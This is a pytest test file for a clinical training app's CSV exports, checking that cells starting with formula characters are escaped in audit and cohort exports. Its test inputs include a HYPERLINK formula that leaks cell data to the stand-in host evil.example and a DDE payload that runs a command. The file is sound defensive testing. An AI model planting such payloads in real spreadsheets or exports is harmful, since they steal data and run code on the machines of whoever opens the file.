"""CSV formula injection (issue 11, finding 9): cells that a spreadsheet would run are exported
as text, in the audit export and the cohort export."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from bedside.db.tables import Cohort, User
from bedside.services import audit, training
from bedside.services.csv_cells import safe_cell, to_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Open")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("   =1+1", "'   =1+1"),  # after leading white space
        (" \t @A1", "' \t @A1"),
        ("Cohort A", "Cohort A"),
        ("a=b", "a=b"),  # only the start counts
        ("", ""),
        (None, None),
        (-3, -3),  # numbers are numbers
        (0.25, 0.25),
    ],
)
def test_safe_cell_escapes_formula_starts_only(value, expected):
    assert safe_cell(value) == expected


def test_to_csv_escapes_every_cell_and_reads_back_as_text():
    document = to_csv(("name", "n"), [(DDE, 3), ("plain", -1)])
    rows = list(csv.reader(io.StringIO(document)))
    assert rows == [["name", "n"], ["'" + DDE, "3"], ["plain", "-1"]]


def test_the_audit_export_escapes_formulas(world):
    with world.session() as session:
        admin = session.get(User, world.users["admin"].id)
        audit.record(session, admin, "user.create", "user:5", detail=HYPERLINK, ip="@10.0.0.1")
        audit.record(session, admin, "cohort.create", "cohort:1", detail=DDE)
        session.commit()
        document = audit.export_csv(session, world.organisation_id)
    rows = list(csv.DictReader(io.StringIO(document)))
    details = {row["action"]: row["detail"] for row in rows}
    assert details["user.create"] == "'" + HYPERLINK
    assert details["cohort.create"] == "'" + DDE
    assert [row["ip"] for row in rows if row["action"] == "user.create"] == ["'@10.0.0.1"]
    for line in document.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.lstrip().startswith(("=", "+", "@")), cell


def test_the_cohort_export_escapes_names_typed_by_users(world):
    with world.session() as session:
        cohort = session.scalar(select(Cohort).where(Cohort.organisation_id == world.organisation_id))
        cohort.name = HYPERLINK
        member = session.get(User, world.users["clinician"].id)
        member.display_name = DDE
        session.commit()
        educator = session.get(User, world.users["educator"].id)
        document = training.cohort_csv(session, educator, cohort.id)
    rows = list(csv.DictReader(io.StringIO(document)))
    assert rows, "the cohort export has no member row to check"
    assert {row["cohort"] for row in rows} == {"'" + HYPERLINK}
    assert "'" + DDE in {row["member"] for row in rows}
